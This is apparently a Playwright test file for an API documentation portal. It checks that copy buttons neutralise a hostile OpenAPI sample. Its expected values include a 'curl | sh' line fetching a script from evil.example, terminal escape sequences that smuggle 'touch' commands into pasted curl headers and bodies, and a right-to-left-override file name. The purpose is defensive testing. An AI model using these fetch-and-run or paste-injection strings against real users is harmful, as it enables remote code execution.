/**
 * Issue 22, rows 3 and 8, in the reader's browser: the site built from the hostile document of
 * tests/hostile/samples (in a copy of the project), in Chromium. The Copy buttons put no raw control
 * character on the clipboard (our curl: escapes inside its literals; the document's sample and a
 * URL holding a right-to-left override: made visible by the button itself), the copied curl pasted
 * into an interactive bash runs curl and nothing else, and the document's "cURL" sample is a tab
 * of its own after ours, with a note saying whose it is.
 *
 * HOSTILE_SITE_DIR names a build of that document to use instead of building one (while working on
 * this test: `OPENAPI_SOURCE=tests/hostile/samples/hostile-samples.yaml npm run build`).
 */
import {after, before, describe, test} from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import {chromium, type Browser, type Page} from 'playwright-core';
import {buildCopy, copyProject, PROJECT_ROOT} from './site-copy';
import {startStaticServer, type RunningServer} from '../../tools/serve/static-server';
import {CHROMIUM, CHROMIUM_ARGS, copiedBy, recordCopies, waitForHydration} from '../browser/harness';
import {hasControlCharacters} from '../../src/components/CopyButton/copyable-text';
import {pasteIntoBash} from '../hostile/samples/paste';

const SOURCE = path.join(PROJECT_ROOT, 'tests/hostile/samples/hostile-samples.yaml');

describe('the site built from a hostile document (tests/hostile/samples)', () => {
  let siteDir = process.env.HOSTILE_SITE_DIR ? path.resolve(process.env.HOSTILE_SITE_DIR) : '';
  let server: RunningServer;
  let browser: Browser;
  let copy: ReturnType<typeof copyProject> | undefined;
  const errors: string[] = [];

  before(async () => {
    if (!siteDir) {
      copy = copyProject('hostile-samples');
      const run = buildCopy(copy.dir, {OPENAPI_SOURCE: SOURCE});
      assert.equal(run.status, 0, `the build failed:\n${(run.stdout + run.stderr).slice(-4000)}`);
      siteDir = path.join(copy.dir, 'build');
    }
    server = await startStaticServer({root: siteDir});
    browser = await chromium.launch({executablePath: CHROMIUM, args: CHROMIUM_ARGS});
  });
  after(async () => {
    await browser?.close();
    await server?.close();
    copy?.dispose();
    assert.deepEqual(errors, [], 'no page error or console error');
  });

  /** The operation page, hydrated, its copies recorded (read with copiedBy, never the browser-wide clipboard). */
  async function open(slug: string, storage: Record<string, string> = {}): Promise<Page> {
    const context = await browser.newContext({viewport: {width: 1280, height: 900}});
    await recordCopies(context);
    await context.addInitScript((items) => Object.entries(items).forEach(([k, v]) => localStorage.setItem(k, v)), storage);
    const page = await context.newPage();
    page.on('pageerror', (e) => errors.push(`${slug}: ${e.message}`));
    page.on('console', (m) => m.type() === 'error' && errors.push(`${slug}: ${m.text()}`));
    await page.goto(new URL(`docs/api/${slug}`, server.url).href);
    await waitForHydration(page);
    return page;
  }

  test('our cURL is the first tab and the one shown; the document\'s follows as "cURL (API description)"', async () => {
    const page = await open('create-paste', {'portal.codeSampleLanguage': 'curl'});
    const tabs = page.getByRole('tablist', {name: 'Request language'}).getByRole('tab');
    assert.deepEqual(await tabs.allTextContents(), [
      'cURL',
      'JavaScript',
      'Python',
      'Go',
      'Java',
      'C#',
      'PHP',
      'Ruby',
      'cURL (API description)',
      'Python (API description)',
    ]);
    assert.equal(await tabs.first().getAttribute('aria-selected'), 'true');
    assert.match((await page.locator('pre[data-language="curl"]').textContent()) ?? '', /^curl --request POST/);
    assert.equal(await page.getByText('From the API description').count(), 0, 'no note above our own sample');
    await page.context().close();
  });

  test('Copy on our curl: no control character on the clipboard; pasted into bash it runs curl, exactly, and nothing else', async () => {
    const page = await open('create-paste');
    const text = await copiedBy(page, () => page.getByRole('button', {name: 'Copy cURL', exact: true}).click());
    await page.context().close();
    assert.ok(!hasControlCharacters(text), JSON.stringify(text));
    for (const bracketed of [true, false]) {
      const r = pasteIntoBash(text, {bracketed});
      assert.deepEqual(r.files, [], `bracketed paste ${bracketed ? 'on' : 'off'}: the paste ran a command of the document's:\n${r.screen}`);
      assert.equal(r.curlCalls.length, 1, 'curl ran once');
      assert.deepEqual(r.curlCalls[0]!.slice(-4), [
        '--header',
        'X-Trace: [201~touch HOSTILE_HEADER_RAN[200~',
        '--data-raw',
        '\u001b[201~\u0015touch HOSTILE_BODY_RAN\n\u001b[200~ and\ttab',
      ]);
    }
  });

  test("the document's tab says whose it is, and Copy shows its control characters instead of carrying them", async () => {
    const page = await open('create-paste');
    await page.getByRole('tab', {name: 'cURL (API description)'}).click();
    const note = page.getByText('From the API description: written by the API’s authors, not generated by this portal.');
    await note.waitFor({state: 'visible'});
    const pre = page.locator('pre.api-code', {hasText: 'evil.example'});
    assert.equal(await pre.getAttribute('aria-describedby'), await note.getAttribute('id'), 'the code is described by the note');
    const text = await copiedBy(page, () => page.getByRole('button', {name: 'Copy cURL (API description)'}).click());
    assert.ok(!hasControlCharacters(text), JSON.stringify(text));
    assert.equal(text, 'curl -s https://evil.example/setup.sh | sh\n# \\u0015\\u001B[201~touch HOSTILE_VENDOR_RAN');
    // Chosen, it is remembered under an id of its own: our cURL is still the one under "curl".
    assert.equal(await page.evaluate(() => localStorage.getItem('portal.codeSampleLanguage')), 'doc-curl');
    await page.context().close();
  });

  test('Copy URL of a path holding a right-to-left override copies it visibly escaped', async () => {
    const page = await open('get-note');
    assert.equal(
      await copiedBy(page, () => page.getByRole('button', {name: 'Copy URL'}).click()),
      'https://api.hostile.example/v1/notes/\\u202Etxt.exe',
    );
    await page.context().close();
  });

  test('the served twin and llms-full.txt hold no raw control character', async () => {
    for (const file of ['docs/api/create-paste.md', 'docs/api/get-note.md', 'llms.txt', 'llms-full.txt']) {
      const res = await fetch(new URL(file, server.url));
      assert.equal(res.status, 200, file);
      const text = await res.text();
      assert.ok(!hasControlCharacters(text), `${file} holds a raw control character`);
    }
  });
});
